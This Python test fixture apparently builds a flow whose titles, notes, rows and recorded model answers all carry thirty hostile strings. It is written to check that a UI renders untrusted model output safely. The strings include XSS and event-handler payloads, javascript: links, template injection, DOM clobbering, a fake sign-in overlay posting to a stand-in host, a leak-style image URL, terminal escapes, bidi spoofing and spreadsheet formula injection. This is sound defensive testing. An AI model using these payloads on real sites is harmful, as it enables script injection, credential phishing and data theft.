"""Thirty answers of a model that wants out of its box, and a flow in which they are everywhere.

`write_flow` puts them into rows, answers, titles, notes, labels, names and reasons of assertions, and
into what a run logs. Whatever of it would run calls `alert`; whatever would be fetched is at `FAR`.
"""

from __future__ import annotations

from pathlib import Path

import orjson

from flowboard.llm.recorded import recording_key
from flowboard.node import ChatRequest

FAR = "http://far.example"
MODEL = "openai/m"
_LONG = 1_000_000

OUTPUTS = (
    "<script>alert(1)</script>",
    "Fine.</script></textarea></title><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    f"<img src={FAR}/a.png srcset='{FAR}/b.png 2x'>",
    "<svg/onload=alert(4)><foreignObject><iframe srcdoc='<script>alert(5)</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(6)></style></mglyph></table></mtext></math>",
    f"<iframe src='{FAR}/frame'></iframe><object data='{FAR}/o'></object><embed src='{FAR}/e'>",
    f"<base href='{FAR}/'><link rel=stylesheet href='{FAR}/c.css'><meta http-equiv=refresh content='0;url={FAR}'>",
    f"<style>@import '{FAR}/i.css'; body {{ display: none !important; background: url({FAR}/u.png) }}</style>",
    f"<div style='position:fixed;inset:0;z-index:99999;background:url({FAR}/cover.png)'>Sign in again</div>",
    f"<form action='{FAR}/login'><input name=password autofocus onfocus=alert(7)><button>Sign in</button></form>",
    "<a href='javascript:alert(8)'>see</a> <a href=' \tjava\nscript:alert(9)'>also</a>",
    f"[harmless](javascript:alert(10)) [data](data:text/html,<script>alert(11)</script>) [out]({FAR}/link)",
    f'![diagram]({FAR}/leak?q=secret) ![x](x "onerror=alert(12)")\n\n[ref]: {FAR}/ref',
    "```html\n<script>alert(13)</script>\n```\n\n`<img src=x onerror=alert(14)>`\n\n<b onclick=alert(15)>bold</b>",
    "| a | b |\n| - | - |\n| <img src=x onerror=alert(16)> | <video><source onerror=alert(17)></video> |",
    "{{ constructor.constructor('alert(18)')() }} {{ $emit }} {% raw %} ${alert(19)} #{7*7} <%= 7*7 %>",
    "<p v-html=\"'<img src=x onerror=alert(20)>'\" :onclick='alert(21)' @mouseover='alert(22)' v-on:click='x'>v</p>",
    "<input id=flowboardCanvas name=flowboardCanvas><form id=socket><input name=emit></form><a id=app></a>",
    '"},"__proto__":{"polluted":"yes"},"x":["</script><!--<script>"]}\\u003cscript\\u003e',
    "'; alert(23); '\" onmouseover=alert(24) x=\"`;alert(25);`",
    "line\u2028separator\u2029paragraph\u0085next\x0bvertical\x0cform\r\rreturn",
    "invoice\u202efdp.exe \u2066\u2067nested\u2069\u2069 \u202d\u200f\u061c",
    "before\x00after \x1b[31mred\x1b[0m \x1b]8;;http://far.example\x07link\x1b]8;;\x07 \x08\x7f",
    '=HYPERLINK("http://far.example","open") \n+1+cmd|\'/c calc\'!A0\n@SUM(1)\n-2+3',
    "<" * 4_000 + "div" * 400 + ">" * 4_000,
    "z\u0310\u0489" * 600 + "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 40 + "\ufeff\ufffe",
    "<template><slot name=x onslotchange=alert(26)></template><details open ontoggle=alert(27)>d</details>",
    "<xss-element style='animation-name:x' onanimationstart=alert(28)></xss-element><marquee onstart=alert(29)>",
    "W" * _LONG,
)
"""Each stands for a family of attacks; the last is a line of a million characters."""

_SHORT = tuple(text[:150] for text in OUTPUTS)
_REASON = "def check(output, row):\n    return False, output[:2000]\n"


def write_flow(folder: Path) -> Path:
    """Write the flow with its rows and recorded answers; answer n is output n, and so is row n."""
    variants = {f"{_SHORT[2]}!": "{{ text }}", f"{_SHORT[16]}!": "Again: {{ text }}"}
    flow = {
        "flowboard": 1,
        "name": _SHORT[1],
        "description": _SHORT[8],
        "nodes": {
            "rows": {"type": "dataset", "path": "rows.jsonl", "title": _SHORT[0], "note": _SHORT[3]},
            "ask": {
                "type": "prompt",
                "title": _SHORT[17],
                "inputs": {"text": "rows.text"},
                "variants": variants,
            },
            "answer": {
                "type": "llm",
                "title": _SHORT[2],
                "note": OUTPUTS[4],
                "inputs": {"prompt": "ask.prompt"},
                "models": [MODEL],
                "assertions": [
                    {"name": _SHORT[20], "check": "contains", "value": OUTPUTS[1]},
                    {"name": "says why", "code": _REASON},
                ],
            },
            "lost": {
                "type": "llm",
                "title": _SHORT[11],
                "inputs": {"prompt": "ask.prompt"},
                "models": ["openai/<img src=x onerror=alert(30)>"],
            },
            "quality": {
                "type": "multi_evaluator",
                "title": _SHORT[5],
                "inputs": {"output": "answer.text"},
                "criteria": [
                    {
                        "id": _SHORT[2],
                        "text": OUTPUTS[12],
                        "candidates": [{"name": _SHORT[16], "check": "contains", "value": OUTPUTS[6]}],
                    }
                ],
            },
            "words": {"type": "note", "text": "\n".join(OUTPUTS[:17])},
            "frame": {"type": "group", "title": _SHORT[10], "members": ["ask", "answer"]},
        },
        "layout": {
            "rows": [0, 0], "ask": [300, 0], "answer": [620, 0], "lost": [620, 320],
            "quality": [940, 0], "words": [0, 320],
        },
    }  # fmt: skip
    rows = [{"id": f"{number}", "text": text[:2_000]} for number, text in enumerate(OUTPUTS)]
    (folder / "rows.jsonl").write_bytes(b"\n".join(map(orjson.dumps, rows)))
    (folder / "hostile.recording.jsonl").write_bytes(
        b"\n".join(
            orjson.dumps(
                {"key": _key(template, text[:2_000]), "model": MODEL, "text": text, "latency": 0.1}
            )
            for text in OUTPUTS
            for template in variants.values()
        )
    )
    path = folder / "hostile.flow.yaml"
    path.write_bytes(orjson.dumps(flow))
    return path


def _key(template: str, text: str) -> str:
    prompt = template.replace("{{ text }}", text)
    return recording_key(ChatRequest(MODEL, [{"role": "user", "content": prompt}]))
